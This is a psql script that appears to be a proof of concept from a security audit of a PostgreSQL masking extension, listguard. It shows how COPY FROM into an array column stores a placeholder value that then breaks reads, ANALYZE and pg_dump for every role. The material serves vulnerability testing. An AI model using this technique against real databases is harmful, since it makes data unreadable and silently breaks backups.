-- FINDING (attack2, 0.3 COPY FROM + write-back): listguard_ProcessUtility
-- runs COPY FROM into a protected table (run_protected_copy_from) before
-- enter_statement_work(), so the type's input runs at statement depth 0
-- for every field of every row: a mask or pseudonym in the data becomes a
-- write-back placeholder instead of the input's error. In an email column
-- the stamping trigger refuses it, but in an email[] (or composite) column
-- nothing looks: the placeholder is stored in the protected table. Every
-- read of that row's column then fails for every role (22P02), and so do
-- ANALYZE (autovacuum's too) and every pg_dump of the database,
-- listguard_backup's included.
-- (INSERT of the same array literal is refused, as it should be.)
-- Needs the fixture of setup.sql (run as superuser).
\set VERBOSITY terse
\c atk postgres
CREATE TABLE public.contacts (id bigserial PRIMARY KEY, account_id bigint NOT NULL, list_id bigint NOT NULL,
                              email listguard.email NOT NULL, aliases listguard.email[]);
SELECT listguard.protect('contacts', 'account_id', 'list_id') IS NOT NULL AS protected;
GRANT SELECT, INSERT, UPDATE, DELETE ON contacts TO a_writer, a_masked;
GRANT USAGE ON SEQUENCE contacts_id_seq TO a_writer;
\c atk a_writer
INSERT INTO contacts (account_id, list_id, email, aliases) VALUES (1, 11, 'real@example.com', '{"j***@example.com"}');
COPY contacts (account_id, list_id, email, aliases) FROM stdin;
1	11	victim@example.com	{j***@example.com}
\.
SELECT id, email, pg_column_size(aliases) AS stored_bytes FROM contacts;
SELECT id, aliases FROM contacts;
\c atk a_masked
SELECT * FROM contacts;
\! "${PGBIN:-/usr/lib/postgresql/15/bin}/pg_dump" -U postgres -d atk -f /dev/null 2>&1 | head -2
\c atk postgres
ANALYZE contacts;   -- autovacuum's too: the table is never analyzed again
-- cleanup
DROP TABLE contacts;
